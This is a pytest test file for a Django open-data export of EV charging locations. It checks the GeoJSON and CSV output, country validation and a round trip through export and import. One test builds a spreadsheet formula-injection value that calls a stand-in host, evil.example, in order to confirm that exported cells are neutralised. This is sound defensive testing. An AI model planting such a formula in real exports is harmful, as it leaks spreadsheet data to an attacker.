import csv
import json

import pytest

from tests.registry.factories import evse, location_data, save

pytestmark = pytest.mark.django_db


def _body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_geojson_is_a_feature_collection_with_licence_and_time(client):
    save(location_data(ocpi_id="A", lon=74.5, lat=42.8))
    save(location_data(ocpi_id="HIDDEN", publish=False))
    response = client.get("/open-data/locations.geojson")
    assert response["Content-Type"] == "application/geo+json"
    doc = json.loads(_body(response))
    assert doc["type"] == "FeatureCollection"
    assert "CC BY 4.0" in doc["licence"]
    assert doc["generated_at"].endswith("Z")
    assert [f["geometry"]["coordinates"] for f in doc["features"]] == [[74.5, 42.8]]


def test_csv_has_a_row_per_connector_under_a_header_and_no_comment_line(client):
    save(location_data(ocpi_id="A", evses=[evse("1"), evse("2"), evse("3", status="REMOVED")]))
    text = _body(client.get("/open-data/locations.csv?country=KG"))
    assert not text.startswith("#")
    rows = list(csv.DictReader(text.splitlines()))
    assert [r["evse_uid"] for r in rows] == ["1", "2"]
    assert rows[0]["power_kw"] == "60.0"


def test_open_data_with_a_bad_country_is_400(client):
    response = client.get("/open-data/locations.csv?country=Narnia")
    assert response.status_code == 400
    assert response.content.decode().startswith("country:")


def test_open_data_csv_cells_are_never_formulas_and_coordinates_stay_numbers(client):
    """A name or address that a spreadsheet would run is text in the download (OWASP)."""
    from tests.core.test_csvsafe import spreadsheet_reading

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Bishkek")'
    save(
        location_data(
            ocpi_id="-1",
            lon=-74.5698,
            name=hostile,
            address="+996 312 000 000",
            city="@Bishkek",
            operator={"name": "-Operator"},
        )
    )
    text = _body(client.get("/open-data/locations.csv"))
    rows = list(csv.DictReader(text.splitlines()))
    (row,) = rows
    assert row["location_name"] == "'" + hostile
    assert row["address"] == "'+996 312 000 000"
    assert row["city"] == "'@Bishkek"
    assert row["operator_name"] == "'-Operator"
    assert row["location_id"] == "'-1"
    assert row["longitude"] == "-74.569800"
    for name, cell in row.items():
        assert spreadsheet_reading(cell) != "formula", (name, cell)
    assert spreadsheet_reading(row["longitude"]) == "number"
    assert spreadsheet_reading(row["max_voltage"]) == "number"


def test_neutralised_export_imports_back_unchanged(tmp_path):
    from io import StringIO

    from django.core.management import call_command

    from kubat.registry.models import Location

    save(location_data(ocpi_id="X1", name="=1+1", address="-Chuy 1", lon=-74.5698))
    target = tmp_path / "export.csv"
    call_command("export", "--format", "csv", "-o", str(target), stdout=StringIO())
    assert "'=1+1" in target.read_text()
    Location.objects.filter(ocpi_id="X1").update(name="changed")
    call_command("import", str(target), stdout=StringIO())
    location = Location.objects.get(ocpi_id="X1")
    assert (location.name, location.address, location.longitude) == (
        "=1+1",
        "-Chuy 1",
        "-74.569800",
    )
